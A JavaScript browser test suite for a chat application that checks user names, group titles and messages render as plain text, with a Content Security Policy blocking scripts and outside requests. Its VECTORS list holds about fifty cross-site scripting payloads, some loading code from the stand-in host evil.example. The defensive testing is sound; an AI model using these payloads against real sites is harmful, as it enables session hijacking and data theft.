// What strangers write is text, wherever it is shown.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, until, Window } from "./browser.mjs";
import { Person } from "./people.mjs";
import { Parlour } from "./server.mjs";

/** Each would call `hacked` where it came to be more than text. */
const VECTORS = [
  "<script>hacked()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>hacked()</scr</script>ipt>",
  "</textarea><script>hacked()</script>",
  "</title><svg onload=hacked()>",
  '"><img src=x onerror=hacked()>',
  "'><img src=x onerror='hacked()'>",
  "<img src=x onerror=hacked()//",
  "<img src=`x` onerror=hacked()>",
  "<img/src/onerror=hacked()>",
  "<svg><script>hacked()</script></svg>",
  "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
  "<iframe src=javascript:hacked()></iframe>",
  "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
  "<object data=javascript:hacked()></object>",
  "<embed src=javascript:hacked()>",
  "<body onload=hacked()>",
  "<details open ontoggle=hacked()>",
  "<input autofocus onfocus=hacked()>",
  "<video><source onerror=hacked()></video>",
  "<form><button formaction=javascript:hacked()>x</button></form>",
  "<a href=javascript:hacked()>x</a>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<template><script>hacked()</script></template>",
  "[x](javascript:hacked())",
  "[x](JaVaScRiPt:hacked())",
  "[x](data:text/html,<script>hacked()</script>)",
  "![x](x onerror=hacked())",
  "![x](//evil.example/x.png)",
  "<javascript:hacked()>",
  "javascript:hacked()",
  "data:text/html,<script>hacked()</script>",
  "[x]: javascript:hacked()\n[x]",
  "`<img src=x onerror=hacked()>`",
  "```\n</code></pre><img src=x onerror=hacked()>\n```",
  "> <img src=x onerror=hacked()>",
  "- <svg/onload=hacked()>",
  "**<img src=x onerror=hacked()>**",
  "http://x.example/\"onmouseover=\"hacked()",
  "https://x.example/'><img/src=x onerror=hacked()>",
  "&lt;img src=x onerror=hacked()&gt;",
  "&#x3C;script&#x3E;hacked()&#x3C;/script&#x3E;",
  "{{constructor.constructor('hacked()')()}}",
  "${hacked()}",
  "\u202e<script>)(dekcah</script>",
  "<\u200bscript>hacked()</script>",
  "<img src=x onerror=\u2028hacked()>",
  "__proto__",
];

let parlour;
let browser;
before(async () => {
  parlour = await Parlour.start();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await parlour?.end();
});

test(`none of ${VECTORS.length} ways to smuggle in a script runs: in names, groups and messages`, async () => {
  const alice = await Person.signUp(parlour.api, VECTORS[5]);
  const everybody = `${VECTORS[5]} and everybody`;
  const group = await alice.group(everybody, [], VECTORS[9]);
  for (const vector of VECTORS) {
    const other = await Person.signUp(parlour.api, vector.slice(0, 100));
    await alice.call("POST", `/groups/${group.id}/members`, { member: { user_id: other.id } });
    await other.send(group, vector);
    await alice.send(await alice.group(vector.slice(0, 100), [], vector), vector);
  }

  const window = await Window.open(browser, parlour.api);
  await window.context.exposeFunction("hacked", () => window.complaints.push("a script ran"));
  const elsewhere = [];
  window.page.on("request", (request) => elsewhere.push(new URL(request.url()).hostname));
  await window.page.reload();
  await window.signIn(alice);
  await until(async () => (await window.page.locator(".groups button").count()) === VECTORS.length + 1);
  await window.openGroup(everybody);
  await window.page.getByRole("button", { name: `${VECTORS.length + 1} members` }).waitFor();
  // The whole log, and the names of its authors.
  await until(async () => {
    const first = await window.log.evaluate((log) => {
      log.scrollTop = 0;
      return log.querySelector("li[data-seq]")?.dataset.seq;
    });
    return first === "1";
  });
  await until(async () => !(await window.log.locator(".by strong").allTextContents()).includes("…"));
  const names = await window.log.locator(".by strong").allTextContents();
  for (const name of ["<script>hacked()</script>", "<base href=//evil.example/>"]) assert.ok(names.includes(name), name);

  const strange = await window.page.evaluate(() => {
    const elements = document.querySelectorAll(
      "script, iframe, object, embed, base, meta[http-equiv], link, style, form [formaction], video, template, .log img, .log svg, .log input",
    );
    return [...elements].map((element) => element.outerHTML).filter((html) => !html.includes('="/assets/'));
  });
  assert.deepEqual(strange.filter((html) => !html.includes("data:image/png")), [], "no element came of a text");
  for (const link of await window.page.locator("a").all()) {
    assert.match(await link.getAttribute("href"), /^https?:\/\//);
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer nofollow");
  }
  await window.page.getByRole("button", { name: /members$/ }).click();
  await window.page.getByRole("dialog").getByRole("listitem").first().waitFor();
  await window.page.keyboard.press("Escape");
  await window.page.getByRole("dialog").waitFor({ state: "hidden" });
  await window.page.keyboard.press("Control+k");
  await window.page.keyboard.type("<");
  await window.page.getByRole("option").first().waitFor();
  await window.page.keyboard.press("Escape");
  for (const at of [1, 10, 20, 30, 40, 50]) {
    await window.page.locator(".groups button").nth(at).click();
    await window.log.locator(".text").first().waitFor();
  }
  assert.deepEqual([...new Set(elsewhere)], ["127.0.0.1"], "nobody else was called");
  await window.close();
});

test("the policy stands: a script that got in would not run, and could tell nobody", async () => {
  const window = await Window.open(browser, parlour.api);
  const stopped = await window.page.evaluate(async () => {
    const outcome = {};
    const script = document.createElement("script");
    try {
      script.textContent = "window.ran = true";
      document.head.append(script);
    } catch (error) {
      outcome.script = error.name;
    }
    try {
      document.body.innerHTML = "<img src=x onerror=hacked()>";
    } catch (error) {
      outcome.markup = error.name;
    }
    outcome.elsewhere = await fetch("https://evil.example/").catch((error) => error.name);
    outcome.ran = window.ran ?? false;
    return outcome;
  });
  assert.deepEqual(stopped, { script: "TypeError", markup: "TypeError", elsewhere: "TypeError", ran: false });
  await until(async () => window.complaints.some((complaint) => complaint.includes("connect-src")));
  await window.context.close();
});

test("what is written is what is shown, in every script and direction", async () => {
  const alice = await Person.signUp(parlour.api, "Alice");
  const group = await alice.group("Scripts");
  const texts = [
    "مرحبا بالعالم",
    "שלום עולם",
    "こんにちは世界",
    "👩‍👩‍👧‍👦 🏳️‍🌈 ❤️",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "a < b && c > d",
    "&amp; &lt;b&gt;",
    "# not a heading",
    "~~not struck~~",
    "http://x.example/a?b=c&d=e#f",
  ];
  for (const text of texts) await alice.send(group, text);
  const window = await Window.of(browser, alice);
  await window.openGroup("Scripts");
  await window.hears(texts.at(-1));
  assert.deepEqual(await window.texts(), texts);
  const direction = (text) =>
    window.log.getByText(text, { exact: true }).evaluate((element) => getComputedStyle(element).direction);
  assert.equal(await direction("مرحبا بالعالم"), "rtl");
  assert.equal(await direction("a < b && c > d"), "ltr");
  await window.close();
});

test("a message that is made to be slow to read is read soon all the same", async () => {
  const alice = await Person.signUp(parlour.api, "Alice");
  const group = await alice.group("Slow");
  const texts = ["*", "_", "`", "> ", "- ", "**a ", "__a_ ", "[", "<", "a@", "http://", "\\", "((", "a.b@", "* a\n"].map((piece) =>
    `${piece.repeat(5000).slice(0, 9_998)}x.`.slice(0, 10_000),
  );
  for (const text of texts) await alice.send(group, text);
  const window = await Window.of(browser, alice);
  const worked = await window.worked();
  const before = await worked();
  await window.openGroup("Slow");
  await until(async () => (await window.texts()).length === texts.length);
  const cost = (await worked()) - before;
  console.log(`# ${texts.length} slow messages cost ${cost.toFixed(0)} ms of CPU`);
  assert.ok(cost < 5_000, `${cost} ms`);
  await window.close();
});
